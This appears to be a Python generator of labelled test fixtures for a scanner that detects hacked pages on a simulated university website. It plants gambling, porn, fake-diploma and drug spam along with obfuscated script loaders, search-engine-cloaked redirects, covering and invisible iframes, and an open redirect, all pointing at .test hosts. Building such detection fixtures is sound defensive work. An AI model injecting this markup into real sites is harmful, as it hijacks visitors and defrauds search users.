"""Pages of the university that somebody changed, one host for each way of doing it."""

from collections.abc import Iterator
from dataclasses import replace
from typing import Final

from testnet import shapes
from testnet.big.campus import department_of
from testnet.big.frame import page
from testnet.big.hidden import hidden
from testnet.big.planted import Planted, leads, own
from testnet.big.prose import Prose
from testnet.documents import leave
from testnet.model import Item, Ref, Resource

GO: Final = "/go?url=http%3A%2F%2Fforward-luck.test%2Fwin"
PASSAGES: Final = (
    "<p>金龙国际真人百家乐、老虎机、时时彩全部开放，注册即送彩金，首存加赠，投注返水日结。</p>"
    "<p>体育博彩滚球盘口实时更新，代理加盟请加客服，存取款三分钟到账，网上赌场信誉第一。</p>"
)
PHRASE: Final = "北京赛车投注平台送彩金"


def changed_pages() -> Iterator[Planted]:
    yield from heads()
    yield from link_blocks()
    yield from doorways()
    yield from scripts()
    yield from frames()
    yield forward()


def heads() -> Iterator[Planted]:
    """Title, description and keywords speak of something else than the page."""
    yield _titled("title-gambling", "jwc", "金龙国际娱乐城官网-真人百家乐-注册送彩金")
    yield _titled("title-adult", "clinic", "Free Porn Videos - HD XXX Movies and Live Sex Cams")
    yield _titled("title-games", "xyy", "新开传奇私服发布网-今日新开一秒变态传奇私服")
    kana = "スーパーコピー時計 ブランド 激安 通販 専門店"
    yield _titled("title-japanese", "art", kana, "title_script")
    plain = "云顶娱乐城-真人百家乐注册送彩金"
    yield _titled("title-encoded", "med", plain, "title_encoded", "".join(f"&#x{ord(one):x};" for one in plain))
    described = (
        '<meta name="keywords" content="真人百家乐,时时彩投注,老虎机,娱乐城,体育博彩">'
        '<meta name="description" content="金龙国际娱乐城提供真人百家乐、时时彩投注和老虎机，注册送彩金，首存加赠。">'
    )
    described_page = page(department_of("sem"), "/xw/417.html", "学院召开教学工作会议", head=described)
    yield own("description", "sem", described_page, "description", "教学工作会议")


def _titled(name: str, label: str, title: str, sign: str = "title", written: str = "") -> Planted:
    """The page itself says what it always said. `written`: the title as it stands in the source."""
    unit = department_of(label)
    text = "Department news" if unit.lang == "en" else "学院新闻"
    resource = page(unit, "/xw/8820.html", text, about=text)
    old, new = (f"<title>{one}</title>".encode(unit.charset) for one in (text, written or title))
    resource = replace(resource, body=resource.body.replace(old, new), title=title)
    return own(name, label, resource, sign, text)


def link_blocks() -> Iterator[Planted]:
    """Blocks of links to sites of a trade, seen and unseen."""
    seen = tuple(
        shapes.anchor(host, "/", text, scheme="http")
        for host, text in (
            ("jinlong-guoji.test", "真人百家乐"),
            ("shishicai-jihua.test", "时时彩投注"),
            ("saiche-pk.test", "北京赛车投注"),
        )
    )
    path = "/xw/2024/links.htm"
    resource = page(department_of("his"), path, "学术沙龙预告", refs=seen)
    goals = (leads(f"block-{ref.host.removesuffix('.test')}", "his", path, ref, ref.host, "gambling") for ref in seen)
    yield own("link-block", "his", resource, "link_block", "学术沙龙", *goals)
    words = {
        "laohuji-wang.test": ("老虎机 注册送彩金", "gambling"),
        "zhibo-chengren.test": ("成人直播 色情视频", "adult"),
    }
    unseen = tuple(
        hidden("block", host, text, '<div style="display:none">{}</div>') for host, (text, _) in words.items()
    )
    resource = page(department_of("music"), path, "音乐会通知", refs=unseen)
    goals = (
        leads(
            f"unseen-{ref.host.removesuffix('.test')}", "music", path, ref, ref.host, words[ref.host][1], "hidden_link"
        )
        for ref in unseen
    )
    yield own("hidden-block", "music", resource, "link_block", "音乐会", *goals)
    block = (
        '<div style="position:absolute;left:-8000px">真人百家乐，时时彩投注，老虎机，体育博彩，'
        "注册送彩金，六合彩资料，网上赌场</div>"
    )
    yield own(
        "hidden-text", "tw", page(department_of("tw"), "/xw/11.htm", "志愿服务通知", block), "hidden_text", "志愿服务"
    )


def doorways() -> Iterator[Planted]:
    """Whole pages of somebody else under paths of the university, and foreign passages in its own."""
    title = "栖川办本科毕业证【微信:bz_0417x】可查"
    body = (
        "<p>本工作室专业办理各类毕业证、学位证、资格证，与原版一模一样，"
        "水印钢印齐全，免预付，货到付款，微信bz_0417x。</p>"
    )
    yield own("doorway-papers", "jxjy", _bare("jxjy", "/upload/2019/bz/9921.html", title, body), "doorway", "学习支持")
    title = "Buy Xanax Online Overnight - No Prescription"
    body = (
        "<h2>Buy Xanax online</h2><p>Order Xanax, tramadol and adderall online without prescription, overnight "
        "delivery, pay with bitcoin.</p>"
    )
    yield own("doorway-pills", "en", _bare("en", "/wp-content/x/77.html", title, body), "doorway", "Downloads")
    poisoned = page(department_of("chem"), "/xw/2022/0618.htm", "实验室安全检查通报", PASSAGES * 2, length=2)
    yield own("poisoned", "chem", poisoned, "text_unsure", "安全检查")
    strewn = "".join(f"<p>{text}{PHRASE}。{other}</p>" for text, other in _pairs("law"))
    yield own("stuffed", "law", _bare("law", "/xw/30417.html", PHRASE, strewn), "stuffed", "会议通知")


def _bare(label: str, path: str, title: str, body: str) -> Resource:
    return page(department_of(label), path, title, body, about=title, length=2, aside=False)


def _pairs(key: str) -> Iterator[tuple[str, str]]:
    prose = Prose(f"strewn:{key}")
    for _ in range(6):
        first, second = prose.paragraphs(2)
        yield first, second


def scripts() -> Iterator[Planted]:
    """Scripts that write in disguise, send some visitors away, or stand on one page of the whole site."""
    tag = '<script src="http://x7f3k.odd-script.test/w.js"></script>'
    escaped = "".join(f"%{ord(character):02x}" for character in tag)
    markup = f"<script>document.write(unescape('{escaped}'));</script>"
    ref = Ref(host="x7f3k.odd-script.test", kind="script:disguised", relation="script", markup=markup)
    resource = page(department_of("env"), "/xw/5.htm", "环保月活动", refs=(ref,))
    goal = leads("written-script", "env", "/xw/5.htm", ref, "odd-script.test")
    yield own("script-writes", "env", resource, "script_writes", "环保月", goal)
    search = (
        "<script>var r=document.referrer;if(/baidu|google|sogou|bing/i.test(r))"
        '{window.location.href="http://tiao-zhuan-le.test/"}</script>'
    )
    yield _redirecting("script-search", "gh", "工会活动", search, "tiao-zhuan-le.test")
    robots = (
        "<script>if(/baiduspider|googlebot/i.test(navigator.userAgent))"
        '{location.replace("http://spider-pool.test/zhan")}</script>'
    )
    yield _redirecting("script-robots", "dag", "馆藏动态", robots, "spider-pool.test")
    ref = shapes.script("x9k2.lone-code.test", "/j1.js")
    resource = page(department_of("hpc"), "/xw/8.htm", "平台维护通知", refs=(ref,))
    further = leads("lone-script", "hpc", "/xw/8.htm", ref, "lone-code.test")
    yield own("lone-code", "hpc", resource, "lone_code", "平台维护", further)


def _redirecting(name: str, label: str, title: str, script: str, domain: str) -> Planted:
    ref = Ref(host=domain, kind="script:location", relation="redirect", markup=script)
    resource = page(department_of(label), "/xw/6.htm", title, refs=(ref,))
    goal = leads(f"{name}-goal", label, "/xw/6.htm", ref, domain, "gambling")
    return own(name, label, resource, "script_redirects", title, goal)


def frames() -> Iterator[Planted]:
    """A frame over the whole page, and one of no size."""
    covering = _frame("quanping-bc.test", "position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;border:0")
    resource = page(department_of("cs"), "/xw/9.htm", "程序设计竞赛", refs=(covering,))
    goal = leads("covering-frame", "cs", "/xw/9.htm", covering, covering.host, "gambling")
    yield own("frame-covers", "cs", resource, "frame_covers", "程序设计竞赛", goal)
    markup = '<iframe src="http://wuxing-kuang.test/c" width="0" height="0" frameborder="0"></iframe>'
    unseen = Ref(host="wuxing-kuang.test", kind="iframe[src]", relation="script", markup=markup, hidden="tiny_box")
    resource = page(department_of("press"), "/xw/10.htm", "新书发布", refs=(unseen,))
    goal = leads("unseen-frame", "press", "/xw/10.htm", unseen, unseen.host, "gambling", "hidden_link")
    yield own("frame-unseen", "press", resource, "frame_unseen", "新书发布", goal)


def _frame(host: str, style: str) -> Ref:
    markup = f'<iframe src="https://{host}/" style="{style}"></iframe>'
    return Ref(host=host, kind="iframe[src]", relation="script", markup=markup)


def forward() -> Planted:
    """An address of the university that forwards to wherever it is told; somebody's link says where."""
    unit = department_of("lib")
    resource = leave(GO, shapes.location_header("forward-luck.test", "/win", scheme="http"))
    item = Item(
        id="open-redirect", family="open redirect", domain="forward-luck.test", violations=("gambling",),
        page=unit.url + GO, kind="redirect:http",
    )  # fmt: skip
    return own("forwards", "lib", resource, "forwards", "资源跳转", item)
